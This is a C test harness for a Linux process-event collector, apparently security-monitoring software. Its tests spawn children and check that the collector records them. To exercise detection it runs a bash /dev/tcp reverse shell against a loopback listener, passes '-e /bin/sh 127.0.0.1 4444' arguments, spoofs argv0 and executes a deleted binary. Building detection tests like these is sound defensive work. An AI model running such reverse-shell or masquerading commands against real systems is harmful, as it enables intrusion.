/* SPDX-License-Identifier: MIT */
/*
 * The harness shared by the process collector's real-kernel tests (test-process-bpf.c,
 * test-process-audit.c, test-process-cnproc.c); included by them, not a test itself.
 *
 * The test starts the collector (col) with tsink as its sink, which keeps every event (or,
 * with count_marker set, only counts the ProcessCreate events whose command line holds it);
 * it spawns children with the marker in their argv, then pumps the collector's fd until the
 * event it waits for arrives or DEADLINE_MS passes (never asserting on speed).
 *
 * Not every test uses every helper: those some tests do without are marked unused.
 */
#pragma once

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <setjmp.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cjson/cJSON.h>
#include <cmocka.h>

#include "collectors/collector.h"
#include "collectors/process/process-int.h"
#include "common/buf.h"
#include "common/json_write.h"
#include "common/timeutil.h"
#include "pipeline/format.h"

extern char **environ;

#define STORE_MAX 65536
#define DEADLINE_MS 10000
#define BURST_INFLIGHT 32
#define BURST_SPAWNERS 2

struct test_sink {
	struct event_sink sink;
	struct event *ev[STORE_MAX];
	size_t n;
	const char *count_marker; /* set: count ProcessCreate with it, keep nothing */
	uint64_t counted;
};

static struct test_sink tsink;
static struct collector *col;
static char marker[64];

static int field_get(const struct event *e, unsigned field, struct event_value *ret)
{
	struct event_cursor cur;
	struct event_value v;

	event_cursor_init(&cur, e);
	while (event_cursor_next(&cur, &v) > 0)
		if (v.kind == EVENT_VALUE_FIELD && v.field == field) {
			*ret = v;
			return 0;
		}
	return -ENOENT;
}

static int extra_get(const struct event *e, const char *key, struct event_value *ret)
{
	struct event_cursor cur;
	struct event_value v;

	event_cursor_init(&cur, e);
	while (event_cursor_next(&cur, &v) > 0)
		if (v.kind == EVENT_VALUE_EXTRA && v.key_len == strlen(key) &&
		    memcmp(v.key, key, v.key_len) == 0) {
			*ret = v;
			return 0;
		}
	return -ENOENT;
}

static int64_t field_int(const struct event *e, unsigned field)
{
	struct event_value v;

	return field_get(e, field, &v) == 0 ? v.i : -1;
}

/* The field as a NUL-terminated copy in out ("" when absent). */
static const char *field_str(const struct event *e, unsigned field, char *out, size_t size)
{
	struct event_value v;
	size_t n = 0;

	if (field_get(e, field, &v) == 0) {
		n = v.len < size - 1 ? v.len : size - 1;
		memcpy(out, v.s, n);
	}
	out[n] = '\0';
	return out;
}

static bool has_marker(const struct event *e, const char *m)
{
	struct event_value v;

	return field_get(e, PC_COMMAND_LINE, &v) == 0 && memmem(v.s, v.len, m, strlen(m));
}

/*
 * The processes of this test: itself and what descends from it (a ProcessCreate whose parent
 * is one of them adds its pid).  Only their events are kept, so the other work of a busy
 * machine — the other capture tests' bursts running at the same time among it — can neither
 * fill the store nor slow the searches down.  A ring: the oldest pids go first.
 */
#define TEST_PIDS_MAX 8192
static pid_t test_pids[TEST_PIDS_MAX];
static size_t test_pids_next;

static bool test_pid_is_ours(int64_t pid)
{
	if (pid == getpid())
		return true;
	for (size_t i = 0; i < TEST_PIDS_MAX; i++)
		if (test_pids[i] && test_pids[i] == pid)
			return true;
	return false;
}

/* A child forked by the test that may never exec: its events are ours too. */
static void test_pid_add(pid_t pid)
{
	test_pids[test_pids_next++ % TEST_PIDS_MAX] = pid;
}

static bool event_is_ours(const struct event *e)
{
	switch (event_get_type(e)) {
	case EVENT_PROCESS_CREATE:
		if (test_pid_is_ours(field_int(e, PC_PROCESS_ID)))
			return true;
		if (!test_pid_is_ours(field_int(e, PC_PARENT_PROCESS_ID)))
			return false;
		test_pid_add((pid_t)field_int(e, PC_PROCESS_ID));
		return true;
	case EVENT_PROCESS_TERMINATE:
		return test_pid_is_ours(field_int(e, PT_PROCESS_ID));
	case EVENT_CONNECTION_CREATE:
		return test_pid_is_ours(field_int(e, CC_PROCESS_ID));
	default:
		return true;
	}
}

static void sink_submit(struct event_sink *sink, struct event *e)
{
	struct test_sink *t = (struct test_sink *)sink;

	if (t->count_marker) {
		if (event_get_type(e) == EVENT_PROCESS_CREATE && has_marker(e, t->count_marker))
			t->counted++;
		event_free(e);
		return;
	}
	if (t->n < STORE_MAX && event_is_ours(e))
		t->ev[t->n++] = e;
	else
		event_free(e);
}

static void sink_clear(void)
{
	for (size_t i = 0; i < tsink.n; i++)
		event_free(tsink.ev[i]);
	tsink.n = 0;
}

static void pump_once(int timeout_ms)
{
	struct pollfd p = { .fd = collector_get_fd(col), .events = POLLIN };

	if (poll(&p, 1, timeout_ms) > 0)
		collector_dispatch(col, POLLIN);
}

/* The ProcessCreate or ProcessTerminate events of pid; the first in *ret_first. */
__attribute__((unused)) static size_t count_pid(enum event_type t, pid_t pid,
						const struct event **ret_first)
{
	size_t n = 0;

	for (size_t i = 0; i < tsink.n; i++) {
		const struct event *e = tsink.ev[i];
		unsigned f = t == EVENT_PROCESS_CREATE ? PC_PROCESS_ID : PT_PROCESS_ID;

		if (event_get_type(e) == t && field_int(e, f) == pid) {
			if (!n && ret_first)
				*ret_first = e;
			n++;
		}
	}
	return n;
}

/* Polls until an event of type t for pid arrives, or the deadline; returns it (or NULL). */
__attribute__((unused)) static const struct event *wait_pid(enum event_type t, pid_t pid)
{
	uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
	const struct event *e = NULL;

	while (!count_pid(t, pid, &e) && time_now_monotonic_ns() < end)
		pump_once(100);
	return e;
}

/* Gives late duplicates a chance to show up. */
static void settle(void)
{
	for (int i = 0; i < 5; i++)
		pump_once(50);
}

/* Forks and execs argv (stdout to /dev/null) in cwd (NULL: ours); returns the child's pid. */
static pid_t spawn(char *const argv[], const char *cwd)
{
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (pid > 0)
		test_pid_add(pid);
	if (pid == 0) {
		int null = open("/dev/null", O_WRONLY | O_CLOEXEC);

		if (null >= 0)
			dup2(null, STDOUT_FILENO);
		if (cwd && chdir(cwd) < 0)
			_exit(126);
		execve(argv[0], argv, environ);
		_exit(127);
	}
	return pid;
}

static int reap(pid_t pid)
{
	int st;

	assert_int_equal(waitpid(pid, &st, 0), pid);
	return st;
}

/*
 * spawn() in a process group of its own, for children that must stay alive until their
 * event is seen (the proc connector reads /proc after the fact, and a loaded machine may
 * take seconds to get there): stop_pg() then kills the whole group and reaps the child.
 */
__attribute__((unused)) static pid_t spawn_pg(char *const argv[])
{
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (pid > 0) {
		test_pid_add(pid);
		(void)setpgid(pid, pid);
		return pid;
	}
	(void)setpgid(0, 0);
	{
		int null = open("/dev/null", O_WRONLY | O_CLOEXEC);

		if (null >= 0)
			dup2(null, STDOUT_FILENO);
	}
	execve(argv[0], argv, environ);
	_exit(127);
}

__attribute__((unused)) static void stop_pg(pid_t pid)
{
	(void)kill(-pid, SIGKILL);
	(void)waitpid(pid, NULL, 0);
}

/*
 * The fields every backend must give the ProcessCreate of `command_line` run by this test
 * process from /tmp, with executable `exe`, and the matching ProcessTerminate (exit status 7).
 */
__attribute__((unused)) static void assert_exit7_events(const struct event *create,
							const struct event *terminate,
							const char *command_line, const char *exe)
{
	char want[32], got[512];
	struct event_value v;

	assert_int_equal(field_int(create, PC_PARENT_PROCESS_ID), getpid());
	assert_string_equal(field_str(create, PC_COMMAND_LINE, got, sizeof(got)), command_line);
	assert_string_equal(field_str(create, PC_EXECUTABLE, got, sizeof(got)), exe);
	snprintf(want, sizeof(want), "%u", (unsigned)getuid());
	assert_string_equal(field_str(create, PC_USER_ID, got, sizeof(got)), want);
	if (getuid() == 0)
		assert_string_equal(field_str(create, PC_USER_NAME, got, sizeof(got)), "root");
	assert_int_equal(extra_get(create, "Cwd", &v), 0);
	assert_int_equal(v.len, 4);
	assert_memory_equal(v.s, "/tmp", 4);
	assert_int_not_equal(extra_get(create, "ArgvTruncated", &v), 0);

	assert_int_equal(field_int(terminate, PT_EXIT_STATUS), 7);
	assert_string_equal(field_str(terminate, PT_EXECUTABLE, got, sizeof(got)), exe);
}

/* A spawner process: n execs of argv, then the number that succeeded on fd. */
__attribute__((unused)) static void burst_spawner(char *const argv[], unsigned n, int fd)
{
	unsigned inflight = 0;
	uint64_t done = 0;

	for (unsigned i = 0; i < n; i++) {
		pid_t pid;

		while (inflight >= BURST_INFLIGHT && waitpid(-1, NULL, 0) > 0)
			inflight--;
		if (posix_spawn(&pid, argv[0], NULL, NULL, argv, environ) == 0) {
			done++;
			inflight++;
		}
	}
	while (inflight && waitpid(-1, NULL, 0) > 0)
		inflight--;
	_exit(write(fd, &done, sizeof(done)) == sizeof(done) ? 0 : 1);
}

/*
 * The burst of the audit and eBPF tests: `total` execs of /bin/true TAG from BURST_SPAWNERS
 * spawner processes while this process only consumes, then pumping until every exec is
 * captured or counted lost (30 s at most).  tsink counts the ProcessCreate events with the tag
 * (written to tag; count_marker stays set for the caller's checks); *lost0 is the collector's
 * lost counter before the burst.  Returns the number of execs that succeeded.
 */
__attribute__((unused)) static uint64_t burst_run(char *tag, size_t tag_size, unsigned total,
						  uint64_t *lost0)
{
	char *argv[] = { "/bin/true", tag, NULL };
	pid_t spawners[BURST_SPAWNERS];
	int fds[2], running = BURST_SPAWNERS;
	uint64_t executed = 0, end;

	sink_clear();
	snprintf(tag, tag_size, "burst-%s", marker);
	tsink.count_marker = tag;
	pump_once(0);
	*lost0 = col->stats.lost;
	assert_int_equal(pipe2(fds, O_CLOEXEC), 0);
	for (int i = 0; i < BURST_SPAWNERS; i++) {
		spawners[i] = fork();
		assert_true(spawners[i] >= 0);
		if (spawners[i] == 0)
			burst_spawner(argv, total / BURST_SPAWNERS, fds[1]);
	}
	close(fds[1]);
	while (running) {
		pump_once(20);
		for (int i = 0; i < BURST_SPAWNERS; i++) {
			int st;

			if (spawners[i] > 0 && waitpid(spawners[i], &st, WNOHANG) == spawners[i]) {
				assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
				spawners[i] = 0;
				running--;
			}
		}
	}
	for (int i = 0; i < BURST_SPAWNERS; i++) {
		uint64_t n;

		assert_int_equal(read(fds[0], &n, sizeof(n)), sizeof(n));
		executed += n;
	}
	close(fds[0]);
	end = time_now_monotonic_ns() + 30 * NSEC_PER_SEC;
	while (tsink.counted + (col->stats.lost - *lost0) < executed &&
	       time_now_monotonic_ns() < end)
		pump_once(100);
	return executed;
}

/* ---- sockets ---- */

/* The ConnectionCreate event a test waits for (laddr NULL, lport 0: any). */
struct conn_want {
	const char *direction, *protocol, *raddr, *laddr;
	unsigned rport, lport;
	pid_t pid;
};

__attribute__((unused)) static unsigned sock_port(int fd, bool peer)
{
	struct sockaddr_storage ss;
	socklen_t len = sizeof(ss);

	assert_int_equal(peer ? getpeername(fd, (struct sockaddr *)&ss, &len)
			      : getsockname(fd, (struct sockaddr *)&ss, &len),
			 0);
	return ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
					     : ((struct sockaddr_in6 *)&ss)->sin6_port);
}

__attribute__((unused)) static socklen_t loopback(int family, struct sockaddr_storage *ss,
						  unsigned port)
{
	memset(ss, 0, sizeof(*ss));
	if (family == AF_INET) {
		struct sockaddr_in *a = (struct sockaddr_in *)ss;

		a->sin_family = AF_INET;
		a->sin_port = htons(port);
		a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		return sizeof(*a);
	}
	((struct sockaddr_in6 *)ss)->sin6_family = AF_INET6;
	((struct sockaddr_in6 *)ss)->sin6_port = htons(port);
	((struct sockaddr_in6 *)ss)->sin6_addr = in6addr_loopback;
	return sizeof(struct sockaddr_in6);
}

/* ---- hostile argv (every backend) ---- */

/* Valid JSON and valid UTF-8 throughout. */
__attribute__((unused)) static bool utf8_valid(const unsigned char *s, size_t len)
{
	for (size_t i = 0; i < len;) {
		size_t n = utf8_seq_len(s + i, len - i);

		if (!n)
			return false;
		i += n;
	}
	return true;
}

__attribute__((unused)) static void assert_valid_json(const struct event *e)
{
	struct buf b;
	struct jw w;
	cJSON *j;

	buf_init(&b, 16u << 20);
	jw_init(&w, &b);
	event_format(e, &w);
	assert_false(b.failed);
	assert_true(utf8_valid((const unsigned char *)b.data, b.len));
	j = cJSON_ParseWithLength(b.data, b.len);
	assert_non_null(j);
	cJSON_Delete(j);
	buf_done(&b);
}

/* An ExtraDetails value as a number (-1 when absent). */
__attribute__((unused)) static long long extra_num(const struct event *e, const char *key)
{
	struct event_value v;
	char buf[32];
	size_t n;

	if (extra_get(e, key, &v) < 0)
		return -1;
	n = v.len < sizeof(buf) - 1 ? v.len : sizeof(buf) - 1;
	memcpy(buf, v.s, n);
	buf[n] = '\0';
	return strtoll(buf, NULL, 10);
}

/* `/bin/sh -c "sleep 30; true" MARKER args...`, alive until its event is seen (then killed). */
__attribute__((unused)) static const struct event *hostile_run(char **args, size_t n_args)
{
	char **argv = calloc(n_args + 5, sizeof(*argv));
	const struct event *e;
	size_t n = 0;
	pid_t pid;

	assert_non_null(argv);
	argv[n++] = "/bin/sh";
	argv[n++] = "-c";
	argv[n++] = "sleep 30; true";
	argv[n++] = marker;
	for (size_t i = 0; i < n_args; i++)
		argv[n++] = args[i];
	argv[n] = NULL;
	pid = spawn_pg(argv);
	e = wait_pid(EVENT_PROCESS_CREATE, pid);
	stop_pg(pid);
	free(argv);
	assert_non_null(e);
	return e;
}

#define HOSTILE_PAD_ARGS 8
#define HOSTILE_PAD_LEN (128 * 1024 - 1) /* the kernel's limit for one argument, less its NUL */
#define HOSTILE_SMALL_ARGS 10000

/*
 * Argument padding must not hide the arguments after it: 8 arguments of 128 KiB (1 MiB) then
 * `-e /bin/sh 127.0.0.1 4444` keep those last arguments, with each pad cut to head and tail;
 * 10,000 one-byte arguments are kept up to the cap and the rest counted, never silently lost;
 * quotes, newlines and invalid UTF-8 survive (valid JSON is checked by the caller).
 */
__attribute__((unused)) static void hostile_argv_check(void (*json_check)(const struct event *))
{
	static char pads[HOSTILE_PAD_ARGS][HOSTILE_PAD_LEN + 1];
	static char *args[HOSTILE_SMALL_ARGS + 16];
	static const char tail[] = " -e /bin/sh 127.0.0.1 4444";
	char *got = malloc(PROCESS_CMDLINE_MAX + 64), want[256];
	const struct event *e;
	size_t n = 0, xs = 0, len;

	assert_non_null(got);
	sink_clear();
	for (int i = 0; i < HOSTILE_PAD_ARGS; i++) {
		memset(pads[i], 'A' + i, HOSTILE_PAD_LEN);
		args[n++] = pads[i];
	}
	args[n++] = "-e", args[n++] = "/bin/sh", args[n++] = "127.0.0.1", args[n++] = "4444";
	e = hostile_run(args, n);
	field_str(e, PC_COMMAND_LINE, got, PROCESS_CMDLINE_MAX + 64);
	len = strlen(got);
	assert_true(len > sizeof(tail));
	assert_string_equal(got + len - (sizeof(tail) - 1), tail);
	snprintf(want, sizeof(want),
		 "AAAA\xe2\x80\xa6[cut %u bytes]\xe2\x80\xa6"
		 "AAAA",
		 HOSTILE_PAD_LEN + 1 - PROCESS_ARG_HEAD - PROCESS_ARG_TAIL);
	assert_non_null(strstr(got, want));
	assert_int_equal(extra_num(e, "ArgvCutArgs"), HOSTILE_PAD_ARGS);
	assert_int_equal(extra_num(e, "ArgvOmittedArgs"), 0);
	assert_int_equal(extra_num(e, "ArgvCap"), PROCESS_ARGS_MAX);
	json_check(e);

	sink_clear();
	n = 0;
	args[n++] = "q\"u'o`te\\";
	args[n++] = "line1\nline2\r\t";
	args[n++] = "bad\xff\xfe\xc3(utf8";
	for (int i = 0; i < HOSTILE_SMALL_ARGS; i++)
		args[n++] = "x";
	args[n++] = "-e", args[n++] = "/bin/sh";
	e = hostile_run(args, n);
	field_str(e, PC_COMMAND_LINE, got, PROCESS_CMDLINE_MAX + 64);
	snprintf(want, sizeof(want),
		 "/bin/sh -c sleep 30; true %s q\"u'o`te\\ line1\nline2\r\t "
		 "bad\xff\xfe\xc3(utf8 x x x",
		 marker);
	assert_memory_equal(got, want, strlen(want));
	for (const char *p = got; (p = strstr(p, " x")); p += 2)
		xs += p[2] == ' ' || p[2] == '\0';
	/* every argument is either in the command line or counted as omitted */
	assert_true(extra_num(e, "ArgvOmittedArgs") > 0);
	assert_int_equal(xs + (size_t)extra_num(e, "ArgvOmittedArgs") -
				 (strstr(got, " -e /bin/sh") ? 0 : 2),
			 HOSTILE_SMALL_ARGS);
	assert_int_equal(extra_num(e, "ArgvCutArgs"), 0);
	assert_non_null(strstr(got, "\xe2\x80\xa6[omitted "));
	json_check(e);
	free(got);
}

/* ---- what detection rules need (every backend; each says what it cannot give) ---- */

/* The ExtraDetails value as a NUL-terminated copy in out ("" when absent). */
__attribute__((unused)) static const char *extra_str(const struct event *e, const char *key,
						     char *out, size_t size)
{
	struct event_value v;
	size_t n = 0;

	if (extra_get(e, key, &v) == 0) {
		n = v.len < size - 1 ? v.len : size - 1;
		memcpy(out, v.s, n);
	}
	out[n] = '\0';
	return out;
}

/* Polls until a ProcessCreate of pid whose Executable ends with exe_suffix arrives. */
__attribute__((unused)) static const struct event *wait_create(pid_t pid, const char *exe_suffix)
{
	uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
	size_t slen = strlen(exe_suffix);
	char exe[512];

	for (;;) {
		for (size_t i = 0; i < tsink.n; i++) {
			const struct event *e = tsink.ev[i];
			size_t n;

			if (event_get_type(e) != EVENT_PROCESS_CREATE ||
			    field_int(e, PC_PROCESS_ID) != pid)
				continue;
			n = strlen(field_str(e, PC_EXECUTABLE, exe, sizeof(exe)));
			if (n >= slen && strcmp(exe + n - slen, exe_suffix) == 0)
				return e;
		}
		if (time_now_monotonic_ns() >= end)
			return NULL;
		pump_once(100);
	}
}

/* A listener on 127.0.0.1 (an ephemeral port): the fd, and the port in *ret_port. */
__attribute__((unused)) static int listen_loopback(unsigned *ret_port)
{
	struct sockaddr_storage ss;
	socklen_t sl = loopback(AF_INET, &ss, 0);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	assert_true(fd >= 0);
	assert_int_equal(bind(fd, (struct sockaddr *)&ss, sl), 0);
	assert_int_equal(listen(fd, 4), 0);
	*ret_port = sock_port(fd, false);
	return fd;
}

/*
 * A reverse shell: `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'` against our listener.
 * The inner bash's ProcessCreate must say that its stdin and stdout are a socket to the
 * listener, and name its parent (the outer bash).
 */
__attribute__((unused)) static void reverse_shell_check(void)
{
	char cmd[160], got[512], want[64];
	char *argv[] = { "/bin/bash", "-c", cmd, marker, NULL };
	const struct event *e = NULL;
	unsigned port;
	int lfd = listen_loopback(&port), cfd;
	pid_t pid;
	uint64_t end;

	sink_clear();
	snprintf(cmd, sizeof(cmd), "/bin/bash -i >& /dev/tcp/127.0.0.1/%u 0>&1", port);
	pid = spawn(argv, NULL);
	cfd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
	assert_true(cfd >= 0);
	end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
	while (!e && time_now_monotonic_ns() < end) {
		for (size_t i = 0; i < tsink.n && !e; i++)
			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
			    field_int(tsink.ev[i], PC_PARENT_PROCESS_ID) == pid &&
			    strstr(field_str(tsink.ev[i], PC_COMMAND_LINE, got, sizeof(got)),
				   "bash -i"))
				e = tsink.ev[i];
		if (!e)
			pump_once(100);
	}
	assert_true(write(cfd, "exit\n", 5) == 5);
	reap(pid);
	close(cfd);
	close(lfd);
	assert_non_null(e);
	assert_string_equal(extra_str(e, "Stdin", got, sizeof(got)), "socket");
	assert_string_equal(extra_str(e, "Stdout", got, sizeof(got)), "socket");
	snprintf(want, sizeof(want), "127.0.0.1:%u", port);
	assert_string_equal(extra_str(e, "StdioRemote", got, sizeof(got)), want);
	/* the path execve was given, or (proc connector) the resolved binary */
	extra_str(e, "ParentExecutable", got, sizeof(got));
	assert_true(strlen(got) >= 5 && strcmp(got + strlen(got) - 5, "/bash") == 0);
	assert_non_null(strstr(extra_str(e, "ParentCommandLine", got, sizeof(got)), marker));
}

/*
 * A script named `ls` run through its #! interpreter, `exec -a fakename sleep`, and a binary
 * run from a file deleted before the exec (fexecve of an unlinked copy).  interp_want: the
 * Interpreter the backend reports for `#!/bin/sh` (NULL: it cannot tell, see the docs).
 */
__attribute__((unused)) static void renamed_binary_check(const char *interp_want)
{
	char dir[] = "/tmp/edgesec-test-XXXXXX", path[64], got[512], cmd[64];
	char *script_argv[] = { path, marker, NULL };
	char *execa_argv[] = { "/bin/bash", "-c", cmd, NULL };
	const struct event *e;
	int fd, sfd, dfd;
	pid_t pid;

	/* A script called ls: Interpreter. */
	sink_clear();
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/ls", dir);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	assert_true(fd >= 0);
	assert_true(write(fd, "#!/bin/sh\nsleep 30\ntrue\n", 24) == 24);
	close(fd);
	pid = spawn_pg(script_argv);
	if (interp_want) {
		e = wait_create(pid, "/ls");
		stop_pg(pid);
		assert_non_null(e);
		assert_string_equal(extra_str(e, "Interpreter", got, sizeof(got)), interp_want);
		assert_int_not_equal(extra_get(e, "Argv0", &(struct event_value){ 0 }), 0);
	} else {
		stop_pg(pid);
	}
	unlink(path);

	/* exec -a: Argv0. */
	sink_clear();
	snprintf(cmd, sizeof(cmd), "exec -a fakename-%d /bin/sleep 30", (int)getpid());
	pid = spawn_pg(execa_argv);
	e = wait_create(pid, "/sleep");
	stop_pg(pid);
	assert_non_null(e);
	snprintf(cmd, sizeof(cmd), "fakename-%d", (int)getpid());
	assert_string_equal(extra_str(e, "Argv0", got, sizeof(got)), cmd);

	/* A deleted binary: ExecutableDeleted. */
	sink_clear();
	snprintf(path, sizeof(path), "%s/sleepcopy", dir);
	sfd = open("/bin/sleep", O_RDONLY | O_CLOEXEC);
	dfd = open(path, O_RDWR | O_CREAT | O_EXCL, 0755);
	assert_true(sfd >= 0 && dfd >= 0);
	for (char buf[65536];;) {
		ssize_t n = read(sfd, buf, sizeof(buf));

		assert_true(n >= 0);
		if (n == 0)
			break;
		assert_true(write(dfd, buf, (size_t)n) == n);
	}
	close(sfd);
	close(dfd);
	dfd = open(path, O_RDONLY); /* no O_CLOEXEC: fexecve needs it open across the exec */
	assert_true(dfd >= 0);
	assert_int_equal(unlink(path), 0);
	pid = fork();
	assert_true(pid >= 0);
	test_pid_add(pid);
	if (pid == 0) {
		char *argv[] = { "sleepcopy", "30", NULL };

		fexecve(dfd, argv, environ);
		_exit(127);
	}
	close(dfd);
	e = NULL;
	for (uint64_t end = time_now_monotonic_ns() + DEADLINE_MS * NSEC_PER_MSEC;
	     !e && time_now_monotonic_ns() < end; pump_once(100))
		for (size_t i = 0; i < tsink.n && !e; i++)
			if (event_get_type(tsink.ev[i]) == EVENT_PROCESS_CREATE &&
			    field_int(tsink.ev[i], PC_PROCESS_ID) == pid)
				e = tsink.ev[i];
	kill(pid, SIGKILL);
	reap(pid);
	assert_non_null(e);
	assert_string_equal(extra_str(e, "ExecutableDeleted", got, sizeof(got)), "true");
	rmdir(dir);
}

/* ---- a script fed on stdin (every backend) ---- */

/*
 * Forks; the child opens `open_path` (or takes fd `stdin_fd` when ≥ 0) as its stdin, goes to
 * a process group of its own and execs /bin/sh -s MARKER.  The file stays open in the child
 * only (O_CLOEXEC in the parent).
 */
__attribute__((unused)) static pid_t stdin_spawn(const char *open_path, int stdin_fd)
{
	char *argv[] = { "/bin/sh", "-s", marker, NULL };
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (pid > 0) {
		test_pid_add(pid);
		(void)setpgid(pid, pid);
		return pid;
	}
	(void)setpgid(0, 0);
	if (open_path)
		stdin_fd = open(open_path, O_RDONLY | O_CLOEXEC);
	if (stdin_fd < 0 || dup2(stdin_fd, STDIN_FILENO) < 0)
		_exit(126);
	{
		int null = open("/dev/null", O_WRONLY | O_CLOEXEC);

		if (null >= 0)
			dup2(null, STDOUT_FILENO);
	}
	execve(argv[0], argv, environ);
	_exit(127);
}

/*
 * The first ProcessCreate of pid (/bin/sh; the proc connector may already name the sleep it
 * execs into, with the same fd 0), polled with the deadline.
 */
__attribute__((unused)) static const struct event *stdin_wait(pid_t pid)
{
	const struct event *e = wait_pid(EVENT_PROCESS_CREATE, pid);

	assert_non_null(e);
	return e;
}

/*
 * `sh -s < FILE` with FILE a script in a directory under /tmp: ExtraDetails StdinPath is the
 * file (read through a symlink: the file the link leads to; through `//` and `/./`: the
 * clean path), StdinDeleted when the file was unlinked before the exec, nothing for a pipe.
 * The shells stay alive (the script execs sleep, keeping fd 0) until their event is seen, so
 * a backend that reads /proc can; `short_lived` (eBPF: read in the kernel at exec) also runs
 * one that has exited before its record is read.
 */
__attribute__((unused)) static void stdin_path_check(bool short_lived)
{
	char dir[] = "/tmp/edgesec-stdin-XXXXXX", path[96], slink[96], padded[128], gone[96];
	char got[512];
	const char *opens[3] = { path, slink, padded };
	const struct event *e;
	int fd, p[2];
	pid_t pid;

	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/x.sh", dir);
	snprintf(slink, sizeof(slink), "%s/link", dir);
	snprintf(gone, sizeof(gone), "%s/gone.sh", dir);
	snprintf(padded, sizeof(padded), "/tmp//%s/./x.sh", dir + 5);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_true(write(fd, "exec sleep 30\n", 14) == 14);
	close(fd);
	assert_int_equal(symlink(path, slink), 0);

	/* the file itself, through a symlink, through a padded path */
	for (size_t i = 0; i < 3; i++) {
		sink_clear();
		pid = stdin_spawn(opens[i], -1);
		e = stdin_wait(pid);
		stop_pg(pid);
		assert_string_equal(extra_str(e, "Stdin", got, sizeof(got)), "file");
		assert_string_equal(extra_str(e, "StdinPath", got, sizeof(got)), path);
		assert_int_not_equal(extra_get(e, "StdinDeleted", &(struct event_value){ 0 }), 0);
	}

	/* unlinked before the exec: the old path, and StdinDeleted */
	sink_clear();
	fd = open(gone, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_true(write(fd, "exec sleep 30\n", 14) == 14);
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	assert_int_equal(unlink(gone), 0);
	pid = stdin_spawn(NULL, fd);
	close(fd);
	e = stdin_wait(pid);
	stop_pg(pid);
	assert_string_equal(extra_str(e, "StdinPath", got, sizeof(got)), gone);
	assert_string_equal(extra_str(e, "StdinDeleted", got, sizeof(got)), "true");

	/* a pipe: no path */
	sink_clear();
	assert_int_equal(pipe2(p, O_CLOEXEC), 0);
	pid = stdin_spawn(NULL, p[0]);
	close(p[0]);
	assert_true(write(p[1], "exec sleep 30\n", 14) == 14);
	close(p[1]);
	e = stdin_wait(pid);
	stop_pg(pid);
	assert_string_equal(extra_str(e, "Stdin", got, sizeof(got)), "pipe");
	assert_int_not_equal(extra_get(e, "StdinPath", &(struct event_value){ 0 }), 0);

	if (short_lived) {
		/* `sh -s < FILE` that has exited (and been reaped) before its record is read */
		sink_clear();
		fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		assert_true(fd >= 0);
		assert_true(write(fd, "exit 3\n", 7) == 7);
		close(fd);
		pid = stdin_spawn(path, -1);
		assert_int_equal(WEXITSTATUS(reap(pid)), 3);
		e = stdin_wait(pid);
		assert_string_equal(extra_str(e, "StdinPath", got, sizeof(got)), path);
	}
	unlink(slink);
	unlink(path);
	rmdir(dir);
}
